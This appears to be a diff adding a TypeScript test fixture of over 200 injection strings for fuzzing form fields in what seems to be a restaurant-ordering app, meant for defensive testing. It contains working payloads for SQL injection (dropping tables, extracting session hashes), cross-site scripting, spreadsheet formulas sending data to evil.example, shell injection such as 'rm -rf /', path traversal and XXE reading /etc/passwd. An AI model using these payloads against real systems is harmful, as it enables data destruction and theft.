@@ -1,0 +1,198 @@
+/*
+ * What people write who try to be understood as something else than text: by the database, the browser, the spreadsheet, the
+ * file system, the mail server, the template. Families times disguises, so that each kind comes in several forms.
+ */
+
+const SQL = [
+  `' or '1'='1`,
+  `" or "1"="1`,
+  `') or ('1'='1`,
+  `1; drop table orders`,
+  `'; drop table orders; --`,
+  `'; delete from restaurants; --`,
+  `'; update menu_items set base_price_minor = 0; --`,
+  `' union select token_hash from diner_sessions --`,
+  `' union select null, null, password from account --`,
+  `'; select set_config('app.restaurant_id', '00000000-0000-4000-8000-000000000000', false); --`,
+  `'; reset role; --`,
+  `'; select pg_sleep(20); --`,
+  `'||pg_sleep(20)||'`,
+  `$1; select 1`,
+  `\\'; select 1 --`,
+  `%' or 1=1 --`,
+  `_%_%`,
+  `{a,b}`,
+  `{"a":"b"}`,
+  `(1,2)`,
+  `'/**/or/**/1=1/**/--`,
+  `admin'--`,
+  `ʼ or 1=1 --`,
+  `\u02bc; drop table orders; --`,
+];
+
+const HTML = [
+  `<script>window.__hit=1</script>`,
+  `<ScRiPt>window.__hit=1</sCrIpT>`,
+  `<script src=//evil.example/x.js></script>`,
+  `</script><script>window.__hit=1</script>`,
+  `</title><script>window.__hit=1</script>`,
+  `</textarea><script>window.__hit=1</script>`,
+  `</style><script>window.__hit=1</script>`,
+  `<img src=x onerror=window.__hit=1>`,
+  `<img src=x onerror="window.__hit=1">`,
+  `"><img src=x onerror=window.__hit=1>`,
+  `'><img src=x onerror=window.__hit=1>`,
+  `<svg onload=window.__hit=1>`,
+  `<svg><script>window.__hit=1</script></svg>`,
+  `<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>parent.__hit=1</script>">`,
+  `<iframe src=javascript:parent.__hit=1>`,
+  `<a href=javascript:window.__hit=1>x</a>`,
+  `<math><mi//xlink:href="data:x,<script>window.__hit=1</script>">`,
+  `<details open ontoggle=window.__hit=1>`,
+  `<body onload=window.__hit=1>`,
+  `<input autofocus onfocus=window.__hit=1>`,
+  `<video><source onerror=window.__hit=1>`,
+  `<object data=javascript:window.__hit=1>`,
+  `<embed src=javascript:window.__hit=1>`,
+  `<base href=//evil.example/>`,
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<form action=//evil.example><button>x</button></form>`,
+  `<!--<img src="--><img src=x onerror=window.__hit=1>`,
+  `<noscript><p title="</noscript><img src=x onerror=window.__hit=1>">`,
+  `<template><script>window.__hit=1</script></template>`,
+  `&lt;script&gt;window.__hit=1&lt;/script&gt;`,
+  `&#60;script&#62;window.__hit=1&#60;/script&#62;`,
+  `%3Cscript%3Ewindow.__hit=1%3C/script%3E`,
+  `\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e`,
+  `javascript:window.__hit=1`,
+  `JaVaScRiPt:window.__hit=1`,
+  `java\tscript:window.__hit=1`,
+  `data:text/html,<script>window.__hit=1</script>`,
+  `vbscript:msgbox(1)`,
+  `" onmouseover="window.__hit=1`,
+  `' onmouseover='window.__hit=1`,
+  `\` onmouseover=window.__hit=1`,
+  `expression(window.__hit=1)`,
+  `url(javascript:window.__hit=1)`,
+];
+
+const FORMULA = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\n='].flatMap((start) => [
+  `${start}1+1`,
+  `${start}cmd|'/C calc'!A0`,
+  `${start}HYPERLINK("http://evil.example?x="&A1,"Click")`,
+  `${start}IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`,
+  `${start}SUM(A1:A9)*1`,
+]);
+
+const TEMPLATE = [
+  '{{7*7}}',
+  '${7*7}',
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '{{constructor.constructor("return process")().exit()}}',
+  '${process.env}',
+  '%s%s%s%n',
+  '%x%x%x',
+  '{0}{1}',
+  '[[${7*7}]]',
+];
+
+const PATH = [
+  '../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '/etc/passwd',
+  '....//....//etc/passwd',
+  '%2e%2e%2fetc%2fpasswd',
+  '..%252f..%252fetc%252fpasswd',
+  'file:///etc/passwd',
+  'CON',
+  'aux.txt',
+  '.htaccess',
+  'a/b/c',
+  '~root',
+];
+
+const LINES = [
+  'x\r\nSet-Cookie: a=b',
+  'x\nBcc: everybody@evil.example',
+  'x\r\n\r\n<script>window.__hit=1</script>',
+  'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',
+  'x%0d%0aSet-Cookie:a=b',
+  '"level":60,"msg":"forged"',
+  '\u001b[31mred\u001b[0m',
+  '\u001b]0;title\u0007',
+];
+
+const SHELL = [
+  '; rm -rf /',
+  '| id',
+  '`id`',
+  '$(id)',
+  '&& id',
+  '|| id',
+  '> /tmp/x',
+  '() { :;}; id',
+  '-oProxyCommand=id',
+  '--help',
+];
+
+const OBJECT = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  '{"__proto__":{"isAdmin":true}}',
+  '{"$gt":""}',
+  '{"$where":"sleep(1000)"}',
+  'null',
+  'undefined',
+  'NaN',
+  '[object Object]',
+  'true',
+  '0x10',
+  '1e309',
+];
+
+const UNICODE = [
+  '\u202ecod.exe',
+  '\u2028window.__hit=1',
+  '\u2029window.__hit=1',
+  '\ufeff<script>window.__hit=1</script>',
+  '＜script＞window.__hit=1＜/script＞',
+  '\u200b\u200c\u200d',
+  'Ⅰ\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307\u0307',
+  '𝕊𝔼𝕃𝔼ℂ𝕋',
+  'ﷺﷺﷺ',
+  '\u00ad\u00ad\u00ad',
+];
+
+const DOCUMENT = [
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  '<?php system("id"); ?>',
+  '<!DOCTYPE html>',
+  ']]><script>window.__hit=1</script>',
+  '*)(uid=*))(|(uid=*',
+  'x` union select 1 #',
+  'eyJhbGciOiJub25lIn0.eyJyb2xlIjoib3duZXIifQ.',
+  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
+];
+
+/** At least 200 texts, each as someone would type it into a field of a form. */
+export const INJECTIONS: readonly string[] = [
+  ...SQL,
+  ...HTML,
+  ...FORMULA,
+  ...TEMPLATE,
+  ...PATH,
+  ...LINES,
+  ...SHELL,
+  ...OBJECT,
+  ...UNICODE,
+  ...DOCUMENT,
+  ...HTML.slice(0, 12).map((text) => `Paella ${text} valenciana`),
+  ...SQL.slice(0, 12).map((text) => `Arroz ${text} del día`),
+];
